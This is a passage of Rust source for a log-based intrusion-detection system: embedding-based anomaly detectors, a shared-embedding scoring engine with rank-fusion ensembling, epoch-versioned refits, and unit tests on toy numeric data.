        check_labels(train, labels)?;
        let mut rng = StdRng::seed_from_u64(self.seed);
        self.fitted = Some(ClassificationTuner::fit_embeddings(
            train.matrix(),
            labels,
            &self.config,
            &mut rng,
        ));
        Ok(())
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        self.fitted
            .as_ref()
            .expect("ClassificationMethod must be fitted before scoring")
            .score_embeddings(test.matrix())
    }
}

/// Reconstruction-based tuning (paper Section IV-A, Eq. 2) as a
/// [`Detector`].
///
/// Fitting clones the frozen pipeline and fine-tunes the copy; scoring
/// therefore re-embeds the view's lines under the *tuned* encoder —
/// that pass is the method itself, not a missed cache (the shared
/// store only memoizes the frozen space).
///
/// The pristine base pipeline is kept after fitting so the detector
/// can be re-fit (the `Detector` contract) from the same frozen
/// starting point; that costs one extra encoder copy per instance —
/// megabytes at experiment scale, noted here rather than hidden.
pub struct ReconstructionMethod {
    base: IdsPipeline,
    config: ReconstructionConfig,
    max_negatives: usize,
    seed: u64,
    fitted: Option<(ReconstructionTuner, IdsPipeline)>,
}

impl ReconstructionMethod {
    /// A method tuning a copy of `base`, subsampling the labeled set to
    /// every positive plus `max_negatives` negatives.
    pub fn new(
        base: &IdsPipeline,
        config: ReconstructionConfig,
        max_negatives: usize,
        seed: u64,
    ) -> Self {
        ReconstructionMethod {
            base: base.clone(),
            config,
            max_negatives,
            seed,
            fitted: None,
        }
    }

    /// The tuned pipeline (after fitting).
    pub fn tuned_pipeline(&self) -> Option<&IdsPipeline> {
        self.fitted.as_ref().map(|(_, p)| p)
    }
}

impl Detector for ReconstructionMethod {
    fn name(&self) -> &str {
        "reconstruction"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        check_labels(train, labels)?;
        if train.lines().is_empty() {
            return Err(DetectorError::MissingLines);
        }
        if !labels.iter().any(|&y| y) {
            return Err(DetectorError::NoPositiveLabels);
        }
        let mut rng = StdRng::seed_from_u64(self.seed);
        let refs: Vec<&str> = train.lines().iter().map(String::as_str).collect();
        let (sub_lines, sub_labels) =
            subsample_labeled(&mut rng, &refs, labels, self.max_negatives);
        let mut pipeline = self.base.clone();
        let tuner = ReconstructionTuner::fit(
            &mut pipeline,
            &sub_lines,
            &sub_labels,
            &self.config,
            &mut rng,
        );
        self.fitted = Some((tuner, pipeline));
        Ok(())
    }

    fn wants_embeddings(&self) -> bool {
        // Reads only the views' lines: tuning and scoring embed under
        // its own (updated) encoder.
        false
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        let (tuner, pipeline) = self
            .fitted
            .as_ref()
            .expect("ReconstructionMethod must be fitted before scoring");
        assert!(
            !test.is_empty() && !test.lines().is_empty(),
            "ReconstructionMethod scores from the view's lines; build the view through EmbeddingStore"
        );
        let refs: Vec<&str> = test.lines().iter().map(String::as_str).collect();
        tuner.score_lines(pipeline, &refs)
    }
}

/// Indices of the records that survive window-content deduplication
/// (first occurrence of each joined window, in stream order) — the
/// paper's multi-line evaluation protocol.
pub fn window_dedup_indices(records: &[LogRecord], width: usize, max_gap: u64) -> Vec<usize> {
    window_dedup_indices_of(&build_windows(records, width, max_gap))
}

/// [`window_dedup_indices`] over already-built windows.
pub fn window_dedup_indices_of(windows: &[crate::tuning::ContextWindow]) -> Vec<usize> {
    let mut seen = std::collections::HashSet::new();
    let mut keep = Vec::new();
    for (i, w) in windows.iter().enumerate() {
        if seen.insert(w.joined()) {
            keep.push(i);
        }
    }
    keep
}

/// Multi-line classification (paper Section IV-C) as a [`Detector`].
///
/// The method is stream-structured: context windows need user ids and
/// timestamps, and the paper de-duplicates *by window content*, which
/// yields a different sample set than the shared line-deduplicated
/// view. The adapter therefore carries its own train/test records;
/// `fit` checks the labels against its training records and ignores
/// the view's matrix, and `score_batch` returns one score per
/// window-deduplicated test record (see [`MultiLineMethod::kept_indices`]).
pub struct MultiLineMethod {
    pipeline: IdsPipeline,
    train: Vec<LogRecord>,
    test: Vec<LogRecord>,
    width: usize,
    max_gap: u64,
    config: TuneConfig,
    seed: u64,
    fitted: Option<MultiLineClassifier>,
}

impl MultiLineMethod {
    /// A method over the frozen `pipeline`, classifying windows of up
    /// to `width` same-user lines within `max_gap` seconds.
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        pipeline: &IdsPipeline,
        train: Vec<LogRecord>,
        test: Vec<LogRecord>,
        width: usize,
        max_gap: u64,
        config: TuneConfig,
        seed: u64,
    ) -> Self {
        MultiLineMethod {
            pipeline: pipeline.clone(),
            train,
            test,
            width,
            max_gap,
            config,
            seed,
            fitted: None,
        }
    }

    /// Indices into the held test records that `score_batch`'s output
    /// aligns with (first occurrence of each distinct window).
    pub fn kept_indices(&self) -> Vec<usize> {
        window_dedup_indices(&self.test, self.width, self.max_gap)
    }

    /// The held test records.
    pub fn test_records(&self) -> &[LogRecord] {
        &self.test
    }
}

impl Detector for MultiLineMethod {
    fn name(&self) -> &str {
        "multiline"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn fit(&mut self, _train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        if self.train.is_empty() {
            return Err(DetectorError::EmptyTrainingSet);
        }
        if self.train.len() != labels.len() {
            return Err(DetectorError::LabelMismatch {
                embeddings: self.train.len(),
                labels: labels.len(),
            });
        }
        let mut rng = StdRng::seed_from_u64(self.seed);
        self.fitted = Some(MultiLineClassifier::fit(
            &self.pipeline,
            &self.train,
            labels,
            self.width,
            self.max_gap,
            &self.config,
            &mut rng,
        ));
        Ok(())
    }

    fn score_batch(&self, _test: &EmbeddingView) -> Vec<f32> {
        let classifier = self
            .fitted
            .as_ref()
            .expect("MultiLineMethod must be fitted before scoring");
        // Build the context windows once; both the scores and the
        // window-content deduplication derive from them.
        let windows = build_windows(&self.test, self.width, self.max_gap);
        let scores = classifier.score_windows(&self.pipeline, &windows);
        window_dedup_indices_of(&windows)
            .into_iter()
            .map(|i| scores[i])
            .collect()
    }

    fn wants_embeddings(&self) -> bool {
        false
    }

    fn test_aligned(&self) -> bool {
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::mock::StepRng;

    #[test]
    fn subsample_keeps_all_positives() {
        let mut rng = StepRng::new(7, 11);
        let lines = vec!["a", "b", "c", "d", "e"];
        let labels = vec![true, false, false, true, false];
        let (sl, sb) = subsample_labeled(&mut rng, &lines, &labels, 1);
        assert_eq!(sb.iter().filter(|&&y| y).count(), 2);
        assert_eq!(sl.len(), 3);
    }
}
