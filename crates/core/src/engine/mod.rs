//! The scoring engine: one embedding pass, many detectors, optional
//! rank-fusion ensembling.
//!
//! Section IV of the paper evaluates five scoring methods over the
//! *same* pre-trained embedding space (classification tuning,
//! multi-line classification, reconstruction tuning, retrieval,
//! vanilla kNN), and Section III adds the unsupervised detectors (PCA,
//! isolation forest, one-class SVM). Running them independently embeds
//! the identical train and de-duplicated test lines once per method —
//! paying the encoder cost, the dominant cost at every scale, up to
//! seven times over.
//!
//! This module factors that structure out:
//!
//! * [`EmbeddingStore`] memoizes each `(line set, pooling, max_len)`
//!   embedding matrix so the encoder runs **exactly once** per
//!   distinct input, however many methods consume it. Views are
//!   `Arc`-backed and cheap to clone; hit/miss counters make the
//!   "embedded once" claim testable.
//! * [`Detector`] (re-exported from `anomaly`) is the method
//!   interface: `fit(&EmbeddingView, &[bool])`,
//!   `score_batch(&EmbeddingView)`, `name()`.
//! * [`ScoringEngine`] drives a registered set of boxed detectors over
//!   shared views and packages their scores; [`EngineRun::fuse`]
//!   exposes the paper's future-work ensemble via
//!   [`crate::ensemble::try_fuse_weighted`], propagating
//!   [`EnsembleError`] instead of panicking.
//!
//! Two methods deserve a note on what "sharing the embedding" can
//! mean:
//!
//! * **Reconstruction tuning** fine-tunes the backbone, so its *test*
//!   scores must come from its own updated encoder — that re-embedding
//!   is the method, not a cache miss. It still shares the frozen-space
//!   training view for subsampling and label bookkeeping.
//! * **Multi-line classification** consumes context windows over the
//!   raw (user, timestamp)-ordered test stream rather than the
//!   de-duplicated line set, so it brings its own inputs and its
//!   score vector is aligned to window-deduplication; the engine
//!   reports it alongside the others but [`EngineRun::fuse`] will
//!   reject mixing it with line-aligned methods (a
//!   [`EnsembleError::LengthMismatch`]).

mod methods;
mod store;

pub use anomaly::{
    merge_shard_candidates, Detector, DetectorError, DetectorState, EmbeddingView, Pooling,
    ShardCandidate, ShardMerge, ShardedDetectorState,
};
pub use index::{HnswParams, IndexBackend, IndexConfig, Quantization, ShardBackend, ShardedParams};
pub use methods::{
    subsample_labeled, window_dedup_indices, ClassificationMethod, MultiLineMethod,
    ReconstructionMethod,
};
pub use store::EmbeddingStore;

use crate::ensemble::{try_fuse_weighted, EnsembleError};

/// Why an engine run failed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EngineError {
    /// A detector failed to fit.
    Detector {
        /// The detector's name.
        method: String,
        /// The underlying failure.
        source: DetectorError,
    },
    /// Fusion over the collected scores was malformed.
    Ensemble(EnsembleError),
    /// A fusion request named an unregistered method.
    UnknownMethod(String),
}

impl std::fmt::Display for EngineError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            EngineError::Detector { method, source } => {
                write!(f, "detector {method:?} failed to fit: {source}")
            }
            EngineError::Ensemble(e) => write!(f, "ensemble fusion failed: {e}"),
            EngineError::UnknownMethod(name) => write!(f, "no method named {name:?} in this run"),
        }
    }
}

impl std::error::Error for EngineError {}

impl From<EnsembleError> for EngineError {
    fn from(e: EnsembleError) -> Self {
        EngineError::Ensemble(e)
    }
}

/// One method's scores from an engine run.
#[derive(Debug, Clone)]
pub struct MethodScores {
    /// The detector's name.
    pub name: String,
    /// One score per scored sample, higher = more suspicious.
    pub scores: Vec<f32>,
    /// Whether `scores[i]` corresponds to test-view sample `i`
    /// ([`Detector::test_aligned`]); stream-structured methods score
    /// their own sample set and are excluded from whole-run fusion.
    pub test_aligned: bool,
}

/// A set of registered detectors driven over shared embedding views.
#[derive(Default)]
pub struct ScoringEngine {
    detectors: Vec<Box<dyn Detector>>,
    index_config: Option<IndexConfig>,
}

impl ScoringEngine {
    /// An engine with no registered detectors.
    pub fn new() -> Self {
        ScoringEngine::default()
    }

    /// Registers a detector; returns `self` for chaining.
    pub fn register(mut self, detector: Box<dyn Detector>) -> Self {
        self.detectors.push(detector);
        self
    }

    /// Selects the vector-index backend for every neighbour-based
    /// detector in this run ([`Detector::configure_index`] is applied
    /// at [`ScoringEngine::run`], before fitting). Without this, each
    /// detector keeps the backend it was constructed with — the exact,
    /// paper-faithful scan by default.
    pub fn with_index_config(mut self, config: IndexConfig) -> Self {
        self.index_config = Some(config);
        self
    }

    /// The run-wide index backend override, if any.
    pub fn index_config(&self) -> Option<IndexConfig> {
        self.index_config
    }

    /// Partitions every neighbour-based detector's exemplar index
    /// across `shards` sub-indexes (seeded content-stable hash; see
    /// `index::ShardedIndex`). Applies on top of whatever backend is
    /// configured — exact by default — and `shards <= 1` keeps the
    /// plain backend. Sharded-exact runs stay score-bit-identical to
    /// unsharded exact.
    pub fn with_shards(mut self, shards: usize) -> Self {
        let base = self.index_config.unwrap_or_default();
        self.index_config = Some(base.with_shards(shards));
        self
    }

    /// Stores every neighbour-based detector's candidates in `quant`
    /// format on top of the configured backend (the `--quant` CLI
    /// knob): f32 is bit-identical to the historical scans, f16/i8
    /// trade ≤ 1-ulp / ≤ scale/2 element error for 2×/4× less
    /// candidate memory bandwidth (`benches/quant_scale.rs`).
    pub fn with_quant(mut self, quant: Quantization) -> Self {
        let base = self.index_config.unwrap_or_default();
        self.index_config = Some(base.with_quant(quant));
        self
    }

    /// Names of the registered detectors, in registration order.
    pub fn detector_names(&self) -> Vec<&str> {
        self.detectors.iter().map(|d| d.name()).collect()
    }

    /// Number of registered detectors.
    pub fn len(&self) -> usize {
        self.detectors.len()
    }

    /// Whether no detector is registered.
    pub fn is_empty(&self) -> bool {
        self.detectors.is_empty()
    }

    /// Whether any registered detector reads embedding matrices; when
    /// `false`, the caller may run with lines-only views and skip the
    /// encoder entirely.
    pub fn wants_embeddings(&self) -> bool {
        self.detectors.iter().any(|d| d.wants_embeddings())
    }

    /// Fits every registered detector on the shared training view and
    /// supervision labels, consuming the engine into a [`FittedEngine`]
    /// that can score any number of test views — the resident state a
    /// long-lived scoring service keeps between arrivals.
    pub fn fit(self, train: &EmbeddingView, labels: &[bool]) -> Result<FittedEngine, EngineError> {
        self.fit_each(labels, |_| train.clone())
    }

    /// [`ScoringEngine::fit`] with a *per-detector* training view:
    /// `train_view` is asked once per detector (in registration order)
    /// and should honour [`Detector::pooling`] /
    /// [`Detector::wants_embeddings`] — a memoizing store makes
    /// repeated answers cheap. This is what lets one run mix
    /// mean-pooled and CLS-probed methods.
    pub fn fit_each<F>(
        mut self,
        labels: &[bool],
        mut train_view: F,
    ) -> Result<FittedEngine, EngineError>
    where
        F: FnMut(&dyn Detector) -> EmbeddingView,
    {
        for det in &mut self.detectors {
            if let Some(config) = self.index_config {
                det.configure_index(config);
            }
            let view = train_view(det.as_ref());
            det.fit(&view, labels)
                .map_err(|source| EngineError::Detector {
                    method: det.name().to_string(),
                    source,
                })?;
        }
        Ok(FittedEngine {
            detectors: self.detectors,
            epoch: 0,
        })
    }

    /// Fits every registered detector and scores the shared test view
    /// in one pass — the one-shot batch protocol. Equivalent to
    /// [`ScoringEngine::fit`] followed by [`FittedEngine::score`].
    pub fn run(
        self,
        train: &EmbeddingView,
        labels: &[bool],
        test: &EmbeddingView,
    ) -> Result<EngineRun, EngineError> {
        Ok(self.fit(train, labels)?.score(test))
    }
}

/// A fitted detector set, reusable across any number of scoring
/// passes.
///
/// [`ScoringEngine::run`] fit, scored once, and dropped everything;
/// the serving path instead keeps a `FittedEngine` resident: micro-
/// batches stream through [`FittedEngine::score`], live supervision is
/// absorbed through [`FittedEngine::append`] (neighbour-based methods
/// insert into their index incrementally), and
/// `serve::ServiceSnapshot` persists the snapshot-capable detectors
/// through [`FittedEngine::detectors`].
///
/// The engine is **epoch-versioned**: a fresh fit (or restore) is
/// epoch 0, and every [`FittedEngine::install_refits`] — the online
/// lifecycle's atomic swap of re-fitted detectors — bumps the epoch.
/// A scoring pass can therefore tag its verdicts with the exact
/// detector generation that produced them, and the serving layer's
/// caches/snapshots can detect a swap that landed mid-operation.
pub struct FittedEngine {
    detectors: Vec<Box<dyn Detector>>,
    epoch: u64,
}

impl FittedEngine {
    /// Reassembles a fitted engine from already-fitted detectors
    /// (snapshot restore path). The caller asserts fittedness; scoring
    /// an unfitted detector panics, as everywhere. Starts at epoch 0,
    /// like a fresh fit.
    pub fn from_detectors(detectors: Vec<Box<dyn Detector>>) -> Self {
        FittedEngine {
            detectors,
            epoch: 0,
        }
    }

    /// The detector generation: 0 for a fresh fit/restore, +1 per
    /// [`FittedEngine::install_refits`] swap.
    pub fn epoch(&self) -> u64 {
        self.epoch
    }

    /// Atomically installs re-fitted replacement detectors (the online
    /// refit swap): each `(index, detector)` pair replaces the resident
    /// detector at that registration index, then the epoch bumps once
    /// for the whole batch. The caller (the serving layer) holds its
    /// engine write lock across this call, so in-flight micro-batches
    /// — which score under the read lock — finish entirely on the old
    /// epoch and later batches score entirely on the new one; a torn
    /// verdict mixing generations is impossible by construction.
    /// Returns the new epoch.
    ///
    /// # Panics
    ///
    /// Panics if an index is out of range or a replacement's name does
    /// not match the detector it replaces — a refit must never change
    /// the method layout verdicts are assembled under.
    pub fn install_refits(&mut self, refits: Vec<(usize, Box<dyn Detector>)>) -> u64 {
        for (i, det) in refits {
            assert_eq!(
                self.detectors[i].name(),
                det.name(),
                "refit must replace a detector with the same method"
            );
            self.detectors[i] = det;
        }
        self.epoch += 1;
        self.epoch
    }

    /// Names of the fitted detectors, in registration order.
    pub fn method_names(&self) -> Vec<&str> {
        self.detectors.iter().map(|d| d.name()).collect()
    }

    /// Number of fitted detectors.
    pub fn len(&self) -> usize {
        self.detectors.len()
    }

    /// Whether the set is empty.
    pub fn is_empty(&self) -> bool {
        self.detectors.is_empty()
    }

    /// The fitted detectors, in registration order.
    pub fn detectors(&self) -> &[Box<dyn Detector>] {
        &self.detectors
    }

    /// Total bytes of accountable fitted state across the detector
    /// set ([`Detector::resident_bytes`]); detectors with no
    /// accountable state contribute zero. This is what the
    /// memory-budgeted tenant tier (`serve::tenants`) charges a hot
    /// tenant for.
    pub fn resident_bytes(&self) -> usize {
        self.detectors
            .iter()
            .filter_map(|d| d.resident_bytes())
            .sum()
    }

    /// Consumes the engine into its fitted detectors (registration
    /// order) — the serving router takes ownership to split
    /// sharded-fitted neighbour detectors across its worker pools.
    pub fn into_detectors(self) -> Vec<Box<dyn Detector>> {
        self.detectors
    }

    /// Whether any fitted detector reads embedding matrices.
    pub fn wants_embeddings(&self) -> bool {
        self.detectors.iter().any(|d| d.wants_embeddings())
    }

    /// Scores the shared test view with every fitted detector.
    ///
    /// Scoring fans out across the fitted detectors on crossbeam-scoped
    /// threads (they only share the immutable test view); output order
    /// stays registration order. Detectors may parallelize internally
    /// too (index batch queries, matmul row chunks), briefly
    /// oversubscribing cores; threads are short-lived and the detector
    /// count is small, so scheduling, not budgeting, absorbs it.
    pub fn score(&self, test: &EmbeddingView) -> EngineRun {
        self.score_each(|_| test.clone())
    }

    /// [`FittedEngine::score`] with a per-detector test view (see
    /// [`ScoringEngine::fit_each`] for the contract). `test_view` may
    /// be called concurrently from the scoring fan-out.
    pub fn score_each<F>(&self, test_view: F) -> EngineRun
    where
        F: Fn(&dyn Detector) -> EmbeddingView + Sync,
    {
        let mut outputs: Vec<Option<MethodScores>> = Vec::with_capacity(self.detectors.len());
        outputs.resize_with(self.detectors.len(), || None);
        if self.detectors.len() <= 1 {
            for (det, slot) in self.detectors.iter().zip(outputs.iter_mut()) {
                *slot = Some(score_one(det.as_ref(), &test_view(det.as_ref())));
            }
        } else {
            let test_view = &test_view;
            crossbeam::scope(|scope| {
                for (det, slot) in self.detectors.iter().zip(outputs.iter_mut()) {
                    scope.spawn(move |_| {
                        *slot = Some(score_one(det.as_ref(), &test_view(det.as_ref())));
                    });
                }
            })
            .expect("detector scoring worker panicked");
        }
        EngineRun {
            outputs: outputs
                .into_iter()
                .map(|o| o.expect("every detector scored"))
                .collect(),
            epoch: self.epoch,
        }
    }

    /// Feeds freshly-labeled exemplars to every fitted detector that
    /// can take them ([`Detector::absorbs_appends`] /
    /// [`Detector::append`]); returns how many absorbed the batch
    /// incrementally (the rest keep their fitted state and rely on
    /// periodic refits). `batch_view` is only asked for absorbing
    /// detectors, so no encoder pass is spent on a view nothing
    /// reads.
    pub fn append_each<F>(
        &mut self,
        labels: &[bool],
        mut batch_view: F,
    ) -> Result<usize, EngineError>
    where
        F: FnMut(&dyn Detector) -> EmbeddingView,
    {
        let mut absorbed = 0;
        for det in &mut self.detectors {
            if !det.absorbs_appends() {
                continue;
            }
            let view = batch_view(det.as_ref());
            if det
                .append(&view, labels)
                .map_err(|source| EngineError::Detector {
                    method: det.name().to_string(),
                    source,
                })?
            {
                absorbed += 1;
            }
        }
        Ok(absorbed)
    }

    /// [`FittedEngine::append_each`] over one shared batch view.
    pub fn append(&mut self, batch: &EmbeddingView, labels: &[bool]) -> Result<usize, EngineError> {
        self.append_each(labels, |_| batch.clone())
    }
}

/// Scores one fitted detector over the shared test view.
fn score_one(det: &dyn Detector, test: &EmbeddingView) -> MethodScores {
    MethodScores {
        name: det.name().to_string(),
        scores: det.score_batch(test),
        test_aligned: det.test_aligned(),
    }
}

/// The collected outputs of a [`ScoringEngine::run`].
#[derive(Debug, Clone)]
pub struct EngineRun {
    outputs: Vec<MethodScores>,
    epoch: u64,
}

impl EngineRun {
    /// All method outputs, in registration order.
    pub fn outputs(&self) -> &[MethodScores] {
        &self.outputs
    }

    /// The engine epoch these verdicts were scored under (see
    /// [`FittedEngine::epoch`]). Every score in this run came from the
    /// same detector generation.
    pub fn epoch(&self) -> u64 {
        self.epoch
    }

    /// One method's scores by name.
    pub fn scores(&self, name: &str) -> Option<&[f32]> {
        self.outputs
            .iter()
            .find(|m| m.name == name)
            .map(|m| m.scores.as_slice())
    }

    /// Rank-fusion ensemble of the named methods with the given
    /// weights — the paper's future-work item as a first-class API.
    pub fn fuse(&self, names: &[&str], weights: &[f32]) -> Result<Vec<f32>, EngineError> {
        let mut selected = Vec::with_capacity(names.len());
        for &name in names {
            selected.push(
                self.scores(name)
                    .ok_or_else(|| EngineError::UnknownMethod(name.to_string()))?,
            );
        }
        Ok(try_fuse_weighted(&selected, weights)?)
    }

    /// Unweighted rank-fusion over every **test-aligned** method in
    /// the run. Stream-structured methods (window-deduplicated
    /// multi-line) are excluded by their [`Detector::test_aligned`]
    /// flag — score counts coinciding by chance must not let two
    /// different sample orderings fuse position-wise.
    pub fn fuse_all(&self) -> Result<Vec<f32>, EngineError> {
        let names: Vec<&str> = self
            .outputs
            .iter()
            .filter(|m| m.test_aligned)
            .map(|m| m.name.as_str())
            .collect();
        let weights = vec![1.0; names.len()];
        self.fuse(&names, &weights)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use anomaly::{PcaMethod, RetrievalMethod, VanillaKnnMethod};
    use linalg::Matrix;

    fn toy_views() -> (EmbeddingView, Vec<bool>, EmbeddingView) {
        let train = Matrix::from_fn(20, 4, |r, c| {
            if r < 4 {
                // Malicious cluster along dim 3.
                if c == 3 {
                    1.0
                } else {
                    0.05 * r as f32
                }
            } else if c == 3 {
                0.0
            } else {
                0.1 * ((r + c) % 5) as f32
            }
        });
        let labels: Vec<bool> = (0..20).map(|r| r < 4).collect();
        let test = Matrix::from_fn(6, 4, |r, c| if c == 3 && r < 2 { 0.9 } else { 0.01 });
        (
            EmbeddingView::from_matrix(train),
            labels,
            EmbeddingView::from_matrix(test),
        )
    }

    #[test]
    fn engine_runs_registered_detectors_and_fuses() {
        let (train, labels, test) = toy_views();
        let engine = ScoringEngine::new()
            .register(Box::new(PcaMethod::new(0.95)))
            .register(Box::new(RetrievalMethod::new(1)))
            .register(Box::new(VanillaKnnMethod::new(3)));
        assert_eq!(engine.detector_names(), ["pca", "retrieval", "vanilla-knn"]);
        let run = engine.run(&train, &labels, &test).expect("run succeeds");
        for m in run.outputs() {
            assert_eq!(m.scores.len(), 6, "{}", m.name);
        }
        let fused = run.fuse_all().expect("uniform lengths fuse");
        assert_eq!(fused.len(), 6);
        // Both malicious-direction test rows outrank the benign ones
        // under the fused ranking.
        assert!(fused[0] > fused[3] && fused[1] > fused[4]);
    }

    #[test]
    fn fuse_all_keeps_only_test_aligned_methods() {
        // Two line-aligned methods (5 samples) plus one stream-aligned
        // method (3 window-deduplicated samples, as multiline produces):
        // fuse_all must fuse the majority, not fail on the odd one out.
        let run = EngineRun {
            outputs: vec![
                MethodScores {
                    name: "multiline".into(),
                    // Same count as the others — alignment, not count,
                    // must decide.
                    scores: vec![0.1, 0.9, 0.4, 0.7, 0.6],
                    test_aligned: false,
                },
                MethodScores {
                    name: "a".into(),
                    scores: vec![0.9, 0.1, 0.5, 0.2, 0.3],
                    test_aligned: true,
                },
                MethodScores {
                    name: "b".into(),
                    scores: vec![0.8, 0.2, 0.6, 0.1, 0.4],
                    test_aligned: true,
                },
            ],
            epoch: 0,
        };
        let fused = run.fuse_all().expect("aligned methods fuse");
        assert_eq!(fused.len(), 5);
        // Sample 0 is top-ranked by both aligned methods; multiline's
        // conflicting ranking must not have contributed.
        assert!(fused[0] > fused[1]);
        assert!(fused.iter().all(|&x| fused[0] >= x));
    }

    #[test]
    fn index_config_threads_through_the_run() {
        let (train, labels, test) = toy_views();
        let exact = ScoringEngine::new()
            .register(Box::new(RetrievalMethod::new(1)))
            .register(Box::new(VanillaKnnMethod::new(3)))
            .run(&train, &labels, &test)
            .expect("exact run");
        let engine = ScoringEngine::new()
            .with_index_config(IndexConfig::hnsw())
            .register(Box::new(RetrievalMethod::new(1)))
            .register(Box::new(VanillaKnnMethod::new(3)));
        assert_eq!(engine.index_config(), Some(IndexConfig::hnsw()));
        let approx = engine.run(&train, &labels, &test).expect("hnsw run");
        // At toy scale the graph search is exhaustive, so the
        // approximate backend reproduces the exact scores — proving
        // the config reached both neighbour-based detectors.
        assert_eq!(exact.scores("retrieval"), approx.scores("retrieval"));
        assert_eq!(exact.scores("vanilla-knn"), approx.scores("vanilla-knn"));
    }

    #[test]
    fn sharded_exact_run_is_bit_identical_to_unsharded() {
        let (train, labels, test) = toy_views();
        let exact = ScoringEngine::new()
            .register(Box::new(RetrievalMethod::new(2)))
            .register(Box::new(VanillaKnnMethod::new(3)))
            .run(&train, &labels, &test)
            .expect("exact run");
        let engine = ScoringEngine::new()
            .with_shards(3)
            .register(Box::new(RetrievalMethod::new(2)))
            .register(Box::new(VanillaKnnMethod::new(3)));
        assert_eq!(
            engine.index_config(),
            Some(IndexConfig::Exact.with_shards(3))
        );
        let sharded = engine.run(&train, &labels, &test).expect("sharded run");
        // Not merely close — bit-identical: the sharded exact
        // partition merges candidates under the exact scan's own
        // total order.
        assert_eq!(exact.scores("retrieval"), sharded.scores("retrieval"));
        assert_eq!(exact.scores("vanilla-knn"), sharded.scores("vanilla-knn"));
    }

    #[test]
    fn zero_embedding_rows_score_deterministically_through_the_engine() {
        // The zero-norm pin at engine level: an all-zero training row
        // (degenerate embedding) and an all-zero test row flow through
        // the neighbour detectors as similarity 0.0 — never NaN — and
        // tie-ordering under `neighbour_cmp` keeps every run, sharded
        // or not, quantized or not, bit-reproducible.
        let train = Matrix::from_fn(12, 4, |r, c| {
            if r == 5 || r == 9 {
                0.0 // degenerate rows, one malicious-labeled
            } else if c == 3 {
                (r < 4) as usize as f32
            } else {
                0.1 * ((r + c) % 3) as f32
            }
        });
        let labels: Vec<bool> = (0..12).map(|r| r < 4 || r == 5).collect();
        let test = Matrix::from_fn(3, 4, |r, c| if r == 1 { 0.0 } else { 0.2 * c as f32 });
        let train = EmbeddingView::from_matrix(train);
        let test = EmbeddingView::from_matrix(test);

        let run_with = |config: Option<IndexConfig>| {
            let mut engine = ScoringEngine::new()
                .register(Box::new(RetrievalMethod::new(2)))
                .register(Box::new(VanillaKnnMethod::new(3)));
            if let Some(c) = config {
                engine = engine.with_index_config(c);
            }
            engine.run(&train, &labels, &test).expect("run succeeds")
        };
        let exact = run_with(None);
        for m in exact.outputs() {
            assert!(
                m.scores.iter().all(|s| s.is_finite()),
                "{}: zero rows must not poison scores",
                m.name
            );
        }
        // Bit-reproducible across repeated runs…
        let again = run_with(None);
        for (a, b) in exact.outputs().iter().zip(again.outputs()) {
            assert_eq!(a.scores, b.scores, "{}", a.name);
        }
        // …and across the sharded partition (zero rows hash to a shard
        // like any other content; ties merge in global id order).
        let sharded = run_with(Some(IndexConfig::Exact.with_shards(3)));
        for (a, b) in exact.outputs().iter().zip(sharded.outputs()) {
            assert_eq!(a.scores, b.scores, "{} sharded", a.name);
        }
        // Quantized runs stay finite and deterministic too (scores may
        // differ from f32 within quantization error, but never NaN).
        for quant in [Quantization::F16, Quantization::I8] {
            let q1 = run_with(Some(IndexConfig::Exact.with_quant(quant)));
            let q2 = run_with(Some(IndexConfig::Exact.with_quant(quant)));
            for (a, b) in q1.outputs().iter().zip(q2.outputs()) {
                assert!(a.scores.iter().all(|s| s.is_finite()), "{} {quant}", a.name);
                assert_eq!(a.scores, b.scores, "{} {quant}", a.name);
            }
        }
    }

    #[test]
    fn quantized_exact_runs_track_f32_scores() {
        let (train, labels, test) = toy_views();
        let exact = ScoringEngine::new()
            .register(Box::new(RetrievalMethod::new(1)))
            .register(Box::new(VanillaKnnMethod::new(3)))
            .run(&train, &labels, &test)
            .expect("f32 run");
        for quant in [Quantization::F16, Quantization::I8] {
            let engine = ScoringEngine::new()
                .with_quant(quant)
                .register(Box::new(RetrievalMethod::new(1)))
                .register(Box::new(VanillaKnnMethod::new(3)));
            assert_eq!(
                engine.index_config(),
                Some(IndexConfig::Exact.with_quant(quant))
            );
            let q = engine.run(&train, &labels, &test).expect("quantized run");
            let tol = if quant == Quantization::F16 {
                1e-2
            } else {
                5e-2
            };
            for (m, qm) in exact.outputs().iter().zip(q.outputs()) {
                for (&a, &b) in m.scores.iter().zip(&qm.scores) {
                    assert!((a - b).abs() <= tol, "{} {quant}: {a} vs {b}", m.name);
                }
            }
        }
    }

    #[test]
    fn install_refits_bumps_the_epoch_and_swaps_in_place() {
        let (train, labels, test) = toy_views();
        let mut engine = ScoringEngine::new()
            .register(Box::new(PcaMethod::new(0.95)))
            .register(Box::new(RetrievalMethod::new(1)))
            .fit(&train, &labels)
            .expect("fit succeeds");
        assert_eq!(engine.epoch(), 0);
        assert_eq!(engine.score(&test).epoch(), 0);

        // Refit PCA from its own template and swap it in.
        let mut replacement = engine.detectors()[0]
            .refit_template()
            .expect("pca is refittable");
        replacement.fit(&train, &labels).expect("refit succeeds");
        let epoch = engine.install_refits(vec![(0, replacement)]);
        assert_eq!(epoch, 1);
        assert_eq!(engine.epoch(), 1);
        // Same data, deterministic fit: the swap changes the epoch,
        // not the verdicts.
        let run = engine.score(&test);
        assert_eq!(run.epoch(), 1);
        assert_eq!(engine.method_names(), ["pca", "retrieval"]);
    }

    #[test]
    #[should_panic(expected = "same method")]
    fn install_refits_rejects_a_method_layout_change() {
        let (train, labels, _) = toy_views();
        let mut engine = ScoringEngine::new()
            .register(Box::new(PcaMethod::new(0.95)))
            .fit(&train, &labels)
            .expect("fit succeeds");
        engine.install_refits(vec![(0, Box::new(RetrievalMethod::new(1)))]);
    }

    #[test]
    fn detector_failure_is_named() {
        let (train, _, test) = toy_views();
        let engine = ScoringEngine::new().register(Box::new(RetrievalMethod::new(1)));
